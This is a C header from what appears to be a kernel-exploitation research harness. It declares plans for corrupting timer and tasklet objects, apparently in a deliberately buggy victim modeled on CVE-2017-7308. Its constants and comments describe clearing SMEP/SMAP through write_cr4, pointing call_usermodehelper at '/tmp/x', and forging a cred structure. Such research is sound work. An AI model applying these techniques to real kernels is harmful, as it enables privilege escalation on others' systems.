/* SPDX-License-Identifier: MIT */
/*
 * Between the registry's attacks and the code that performs them:
 * payloads.c decides WHAT the attacker writes (an image of the ring in the
 * default layout, the fields it means to change, its recorded intent);
 * techniques.c decides HOW (which victim bug, when), checks that the write
 * landed, and lets the wheel run.
 */
#ifndef TH_ATTACKS_ATTACK_H
#define TH_ATTACKS_ATTACK_H

#include "af_packet.h"
#include "layout.h"
#include "registry.h"
#include "victim.h"

/* CVE-2017-7308's value: CR4 with SMEP and SMAP cleared. */
#define TH_CR4_CHOSEN	(TH_CR4_INITIAL & ~(X86_CR4_SMEP | X86_CR4_SMAP))
/* What func:other-proto wants call_usermodehelper() to run. */
#define TH_CHOSEN_PATH	"/tmp/x"
/* Refcount of the attacker's fake cred: a marker no real cred has. */
#define TH_FAKE_CRED_USAGE	0x1337u

struct th_plan {
	enum th_payload payload;
	/* The attacker's image of the ring's first bytes, default layout. */
	struct atk_ring img;
	/* Bytes of the image a linear write must cover, from offset 0. */
	size_t reach;
	size_t plant_len;	/* bytes planted at the start of name (0: none) */
	int sets_function, sets_data;
	int sets_after;		/* the word right after the timer (func:foreign-callback on
				 * 4.15: process_timer's task) */
	int pending;		/* the timer is queued when the write lands */
	uintptr_t fake;		/* data:fake-object: the fake object; list:forged-timer:
				 * the forged timer_list; else 0 */
	/* The victim's own callback, and where its timer lies in the object
	 * (data:fake-object keeps the one and aims .data at the other). */
	int packet_sock;	/* the victim is af_packet's socket (af_packet.h),
				 * not the generic neighbour */
	uintptr_t legit_fn;
	const char *legit_name;
	size_t fake_timer_off;
	uintptr_t resolved;	/* not-address-taken, raw-body: the symbol's address */
	char resolved_name[64];	/* ... and its name ("ring_force_close.cfi") */
	char what[160];		/* narration: ".function = write_cr4, ..." */
	struct th_goal goal;	/* the same, in the victim's terms, for TH-LANDED */
};

/* The attacker's System.map (sysmap.h): the first of @names the image has,
 * its address in *@addr and its name in @name (the timer's and the
 * tasklet's not-address-taken and raw-body payloads). Return: 0, or -1
 * after saying which symbol was missing. */
int th_payload_resolve(const char *const *names, size_t n, uintptr_t *addr, char *name,
		       size_t namesz);

/* Before the victim allocates anything: what must exist first (the fake
 * object of data:fake-object, sprayed: a fake neighbour, or with
 * @packet_sock a fake af_packet socket). Return: 0 or -1. */
int th_payload_prepare(struct th_plan *plan, enum th_payload p, int packet_sock);

/*
 * Fill plan->img over base (the attacker's view of the ring now: the leaked
 * bytes, with a zero list and expiry for a timer not yet armed), set the
 * goal and record the intent (th_intent).
 */
void th_payload_build(struct th_plan *plan, const struct atk_ring *base);

/*
 * --aim NAME (attacks/attack_main.c): the attack's .function is the symbol NAME of
 * this image (sysmap.h) instead of its payload's target, with no argument
 * chosen; how tests/reach_agree_test.c puts a computed target set to the
 * test. NULL: not aimed.
 */
struct th_aim {
	const char *name;
	uintptr_t addr;
};
extern struct th_aim th_aim;

/* Run one attack of the registry in this process. Return: exit status. */
int th_attack_run(const struct th_attack *a);
/* The tasklet family's (tasklet_attack.c): an attack whose technique's api
 * is "tasklet". th_attack_run() hands those over. */
int th_tasklet_attack_run(const struct th_attack *a);

#endif
